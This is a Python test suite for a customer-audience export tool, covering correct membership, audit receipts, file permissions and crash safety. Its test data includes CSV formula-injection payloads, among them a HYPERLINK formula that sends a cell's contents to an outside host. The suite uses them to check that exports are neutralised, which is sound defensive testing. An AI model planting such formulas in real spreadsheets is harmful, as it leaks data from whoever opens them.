"""Customers for activation: the right ones, once, and never without a receipt."""

import csv
import datetime as dt
import hashlib
import json
import os
import resource
import signal
import stat
from pathlib import Path
from typing import Any

import duckdb
import pytest

from rfm_platform.customers.audience import AudienceError
from rfm_platform.customers.campaign_lists import read_customers
from rfm_platform.customers.segments import Segments
from rfm_platform.warehouse import Publication
from rfm_platform_tests.customers.conftest import SEGMENTS, Chain, line

DAY = dt.date(2024, 1, 31)
LINES = [
    line(
        f"2024-01-{day} 10:00",
        f"u{n}",
        f"{n}",
        100 * n + 1,
        marketplace=("shopee", "lazada")[n % 2],
    )
    for n in range(20)
    for day in (10 + n,)
]


# What a spreadsheet runs, or takes away; and what only looks as if it had been written here.
FORMULAS = [
    '=HYPERLINK("http://x/?"&B3,"see")',
    *("+62811", "-x", "@SUM(1)", "\t=1", "\r=1", "'=1", "'x"),
]
LINES += [line("2024-01-15 10:00", who, f"f{n}", 500) for n, who in enumerate(FORMULAS)]


TEXTS = ("segment", "marketplace", "action", "purpose", "by")


@pytest.fixture(scope="module")
def scored(chain: Chain) -> Chain:
    chain.publish(LINES, DAY)
    return chain


def _export(chain: Chain, path: Path, **different: Any) -> dict[str, Any]:
    scores = chain.tables(DAY)["rfm_scores_snapshots"]
    asked: dict[str, Any] = {
        "segment": scores[0]["segment"],
        "marketplace": None,
        "segments": SEGMENTS,
        "action": None,
        "purpose": "spring launch",
        "by": "ann",
    }
    return chain.platform.audiences.export(path, **asked | different)


def _receipts(chain: Chain) -> list[dict[str, Any]]:
    """In an order that does not depend on where they lie: several are of one second."""
    return chain.platform.warehouse.rows("SELECT * FROM rfm.audiences AS a ORDER BY a")


def _wanted(chain: Chain, segment: str, marketplace: str | None) -> set[tuple[str, str]]:
    return {
        (row["marketplace"], row["user_id"])
        for row in chain.tables(DAY)["rfm_scores_snapshots"]
        if row["segment"] == segment and marketplace in (None, row["marketplace"])
    }


def _raw(text: str) -> str:
    return text[1:] if text.startswith("'") and text.lstrip("'")[:1] in set("=+-@\t\r\n") else text


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_no_text_of_a_csv_is_a_formula_and_a_campaigns_list_has_the_customers_again(
    scored: Chain, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"a{suffix}"
    wanted = set()
    for segment in {row["segment"] for row in scored.tables(DAY)["rfm_scores_snapshots"]}:
        _export(scored, path, segment=segment)
        if suffix == ".csv":
            with path.open(encoding="utf-8", newline="") as file:
                texts = [text for row in csv.reader(file) for text in row]
            assert not [text for text in texts if text.startswith(tuple("=+-@\t\r\n"))]
        with scored.platform.engine.session() as session:
            read_customers(session, "A", path)
            found = {*session.rows("SELECT marketplace, user_id FROM campaign_file")}
        assert found == _wanted(scored, segment, None)
        wanted |= {user_id for _, user_id in found}
        for written in tmp_path.iterdir():
            written.unlink()
    assert wanted >= {*FORMULAS}, "not every one was exported, so this shows too little"


@pytest.mark.parametrize("marketplace", [None, "shopee"])
@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_the_file_holds_exactly_the_segments_customers(
    scored: Chain, tmp_path: Path, suffix: str, marketplace: str | None
) -> None:
    segment = next(
        row["segment"]
        for row in scored.tables(DAY)["rfm_scores_snapshots"]
        if row["marketplace"] == "shopee"
    )
    path = tmp_path / f"audience{suffix}"
    receipt = _export(scored, path, segment=segment, marketplace=marketplace)
    if suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            found = [(row["marketplace"], _raw(row["user_id"])) for row in csv.DictReader(file)]
    else:
        found = duckdb.read_parquet(str(path)).project("marketplace, user_id").fetchall()
    assert len(found) == len({*found}) == receipt["customers"]
    assert {*found} == _wanted(scored, segment, marketplace)


def test_the_receipt_says_who_when_how_many_of_which_snapshot_and_why(
    scored: Chain, tmp_path: Path
) -> None:
    receipt = _export(scored, tmp_path / "a.csv", purpose=" payday ", action="voucher")
    said = json.loads((tmp_path / "a.csv.receipt.json").read_text(encoding="utf-8"))
    assert said == {
        key: value if isinstance(value, int) else value and str(value)
        for key, value in receipt.items()
    }
    assert (said["exported_by"], said["purpose"], said["action"]) == ("ann", "payday", "voucher")
    assert said["as_of_date"] == "2024-01-31"
    (kept,) = scored.platform.warehouse.rows(
        "SELECT * FROM rfm.audiences WHERE sha256 = %(sha256)s AND action = 'voucher'",
        {"sha256": receipt["sha256"]},
    )
    assert kept == receipt


@pytest.mark.parametrize(
    ("wrong", "said"),
    [
        ({"segment": "Whales"}, "There is no segment Whales"),
        ({"marketplace": "nowhere"}, "no customer on nowhere"),
        ({"purpose": "  "}, "--purpose"),
        ({"purpose": "\u200b"}, "--purpose"),
        *(({name: "a\udcff"}, f"^{name} is no UTF-8 text") for name in TEXTS),
        ({"as_of": dt.date(2023, 1, 1)}, "no snapshot of 2023-01-01"),
    ],
)
def test_what_cannot_be_exported_is_said_and_leaves_no_file(
    scored: Chain, tmp_path: Path, wrong: dict[str, Any], said: str
) -> None:
    with pytest.raises(AudienceError, match=said):
        _export(scored, tmp_path / "a.csv", **wrong)
    assert list(tmp_path.iterdir()) == []


def test_a_marketplace_without_such_customers_is_answered_with_those_that_have_some(
    scored: Chain, tmp_path: Path
) -> None:
    segment = str(scored.tables(DAY)["rfm_scores_snapshots"][0]["segment"])
    have = sorted({name for name, _ in _wanted(scored, segment, None)})
    with pytest.raises(AudienceError) as raised:
        _export(scored, tmp_path / "a.csv", segment=segment, marketplace="nope")
    assert str(raised.value) == (
        f"{segment} has no customer on nope as of 2024-01-31. Marketplaces with such customers "
        f"then: {', '.join(have)}."
    )


def test_a_segment_that_was_renamed_in_the_file_since_is_exported_by_the_snapshots_name(
    scored: Chain, tmp_path: Path
) -> None:
    """As `rfm show segments` lists it. Who asks for the new name is told which there were."""
    old = str(scored.tables(DAY)["rfm_scores_snapshots"][0]["segment"])
    cells = {cell: "New" if name == old else name for cell, name in SEGMENTS.cells.items()}
    renamed = Segments(version=2, cells=cells, actions=dict.fromkeys(cells.values(), "greet"))
    receipt = _export(scored, tmp_path / "a.csv", segment=old, segments=renamed)
    assert receipt["customers"] == len(_wanted(scored, old, None))
    assert receipt["action"] == "no longer in the segment file"
    with pytest.raises(AudienceError) as raised:
        _export(scored, tmp_path / "b.csv", segment="New", segments=renamed)
    assert "New has no customer as of 2024-01-31. Segments with customers then: " in str(
        raised.value
    )
    assert old in str(raised.value)


@pytest.mark.parametrize("name", ["a.csv", "a.csv.receipt.json", "a.csv.partial"])
def test_an_existing_file_is_named_and_not_written_over(
    scored: Chain, tmp_path: Path, name: str
) -> None:
    (tmp_path / name).write_text("precious")
    with pytest.raises(AudienceError, match=f"{name} is there already"):
        _export(scored, tmp_path / "a.csv")
    assert [file.name for file in tmp_path.iterdir()] == [name]
    assert (tmp_path / name).read_text() == "precious"


@pytest.mark.parametrize("appears", ["a.csv", "a.csv.receipt.json"])
def test_a_file_that_comes_meanwhile_is_not_written_over(
    scored: Chain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, appears: str
) -> None:
    digest = hashlib.file_digest

    def meanwhile(*arguments: Any) -> Any:
        (tmp_path / appears).write_text("precious")
        return digest(*arguments)

    monkeypatch.setattr(hashlib, "file_digest", meanwhile)
    before = _receipts(scored)
    with pytest.raises(AudienceError, match=appears):
        _export(scored, tmp_path / "a.csv")
    assert {file.name: file.read_text() for file in tmp_path.iterdir()} == {appears: "precious"}
    assert _receipts(scored) == before


def test_two_formats_of_one_name_have_a_receipt_each(scored: Chain, tmp_path: Path) -> None:
    for name in ("a.csv", "a.parquet"):
        receipt = _export(scored, tmp_path / name)
        said = json.loads((tmp_path / f"{name}.receipt.json").read_text(encoding="utf-8"))
        assert (said["file"], said["sha256"]) == (name, receipt["sha256"])
    assert len([*tmp_path.iterdir()]) == 4


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_only_the_owner_may_read_what_is_written(
    scored: Chain, tmp_path: Path, suffix: str
) -> None:
    umask = os.umask(0)
    try:
        _export(scored, tmp_path / f"a{suffix}")
    finally:
        os.umask(umask)
    modes = {file.name: stat.S_IMODE(file.stat().st_mode) for file in tmp_path.iterdir()}
    assert modes == {f"a{suffix}": 0o600, f"a{suffix}.receipt.json": 0o600}


# Each strikes at another step: while rows are written, before and after the receipt, before the
# commit, after it, and when the file has its name.
STEPS = {
    "rows": (hashlib, "file_digest", "before"),
    "receipt": (json, "dumps", "before"),
    "insert": (Publication, "append", "before"),
    "commit": (Publication, "append", "after"),
    "rename": (Path, "rename", "before"),
    "name": (Path, "rename", "after"),
}


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize("error", [KeyboardInterrupt, OSError])
def test_what_stops_at_any_step_leaves_neither_file_nor_receipts(
    scored: Chain,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    step: str,
    error: type[BaseException],
) -> None:
    owner, name, when = STEPS[step]
    does = getattr(owner, name)

    def stops(*arguments: Any, **named: Any) -> None:
        if when == "after":
            does(*arguments, **named)
        raise error(step)

    before = _receipts(scored)
    with monkeypatch.context() as patched:
        patched.setattr(owner, name, stops)
        with pytest.raises(error, match=step):
            _export(scored, tmp_path / "a.csv")
    assert list(tmp_path.iterdir()) == []
    assert _receipts(scored) == before


def test_half_written_rows_have_no_final_name_and_are_removed(
    scored: Chain, tmp_path: Path
) -> None:
    """A full disk: the file system takes no more than some bytes of a file."""
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20, limits[1]))
    try:
        with pytest.raises(duckdb.Error):
            _export(scored, tmp_path / "a.csv")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        signal.signal(signal.SIGXFSZ, ignored)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("step", STEPS)
def test_a_kill_at_any_step_leaves_no_file_without_both_receipts(
    scored: Chain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    """Whoever is killed undoes nothing: what lies there at each step is looked at."""
    owner, name, when = STEPS[step]
    does = getattr(owner, name)
    before = _receipts(scored)
    found: dict[str, Any] = {}

    def looks(*arguments: Any, **named: Any) -> Any:
        look = {
            "files": sorted(file.name for file in tmp_path.iterdir()),
            "rows": len(_receipts(scored)) - len(before),
        }
        result = does(*arguments, **named)
        if when == "after":
            look["files"] = sorted(file.name for file in tmp_path.iterdir())
        found.update(look)
        return result

    with monkeypatch.context() as patched:
        patched.setattr(owner, name, looks)
        _export(scored, tmp_path / "a.csv")
    written = ["a.csv.partial", "a.csv.receipt.json"]
    assert (found["files"], found["rows"]) == {
        "rows": (["a.csv.partial"], 0),
        "receipt": (written, 0),
        "insert": (written, 0),
        "commit": (written, 0),
        "rename": (written, 1),
        "name": (["a.csv", "a.csv.receipt.json"], 1),
    }[step]


def test_without_a_receipt_in_the_warehouse_there_is_no_file(scored: Chain, tmp_path: Path) -> None:
    scored.platform.warehouse.rows("SELECT 1")
    with scored.platform.warehouse.database.connect() as connection:
        connection.execute("ALTER TABLE rfm.audiences RENAME TO elsewhere")
    try:
        with pytest.raises(Exception, match="audiences"):
            _export(scored, tmp_path / "a.csv")
    finally:
        with scored.platform.warehouse.database.connect() as connection:
            connection.execute("ALTER TABLE rfm.elsewhere RENAME TO audiences")
    assert list(tmp_path.iterdir()) == []
